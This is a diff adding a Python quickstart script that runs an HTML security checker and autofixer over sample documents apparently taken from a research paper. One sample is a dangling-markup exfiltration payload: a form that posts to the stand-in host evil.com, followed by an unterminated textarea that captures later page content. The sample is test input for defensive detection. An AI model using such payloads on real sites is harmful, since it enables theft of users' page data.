@@ -1,0 +1,75 @@
+#!/usr/bin/env python3
+"""Quickstart: check HTML for security-relevant specification violations.
+
+Runs the Table 1 rule set over a handful of documents — including the
+paper's own example payloads — prints the findings, and repairs what the
+section 4.4 automated process can fix.
+
+Usage::
+
+    python examples/quickstart.py
+"""
+from __future__ import annotations
+
+from repro import Checker, autofix
+from repro.core import REGISTRY
+
+SAMPLES = {
+    "forgotten space (FB2, Figure 13)": (
+        "<!DOCTYPE html><html><head><title>jobs</title></head><body>"
+        '<input name="q" type="text" placeholder="Search jobs..."value="">'
+        "</body></html>"
+    ),
+    "slash as separator (FB1)": (
+        "<!DOCTYPE html><html><head><title>x</title></head><body>"
+        '<img/src="banner.png"/alt="banner"></body></html>'
+    ),
+    "duplicate attribute (DM3, Figure 14)": (
+        "<!DOCTYPE html><html><head><title>shop</title></head><body>"
+        '<img src="/img/item.jpg" alt="" width="120" alt="product photo">'
+        "</body></html>"
+    ),
+    "meta redirect in body (DM1, Figure 15)": (
+        "<html><head><title>moved</title></head><body>Page has moved"
+        '<meta http-equiv="Refresh" content="0; URL=http://wds.iea.org/wds">'
+        "</body></html>"
+    ),
+    "headline straight in table row (HF4, Figure 11)": (
+        "<!DOCTYPE html><html><head><title>t</title></head><body><table>"
+        "<tr><strong>Cozi Organizer</strong></tr>"
+        "<tr><td>The #1 organizing app</td></tr></table></body></html>"
+    ),
+    "unterminated textarea (DE1, Figure 3)": (
+        '<!DOCTYPE html><html><head><title>t</title></head><body>'
+        '<form action="https://evil.com"><input type="submit">'
+        "<textarea>\n<p>My little secret</p>"
+    ),
+    "clean page (no findings)": (
+        "<!DOCTYPE html><html><head><title>ok</title></head>"
+        "<body><p>Nothing wrong here.</p></body></html>"
+    ),
+}
+
+
+def main() -> None:
+    checker = Checker()
+    for label, html in SAMPLES.items():
+        print(f"=== {label}")
+        report = checker.check_html(html)
+        if not report.findings:
+            print("    no violations\n")
+            continue
+        for finding in report.findings:
+            violation = REGISTRY[finding.violation]
+            marker = "auto-fixable" if violation.auto_fixable else "manual fix"
+            print(f"    {finding.violation} [{violation.group.value}, {marker}] "
+                  f"{finding.message}")
+        result = autofix(html)
+        if result.changed:
+            print(f"    -> autofix repaired {len(result.repaired)} finding(s); "
+                  f"{len(result.remaining)} remain")
+        print()
+
+
+if __name__ == "__main__":
+    main()
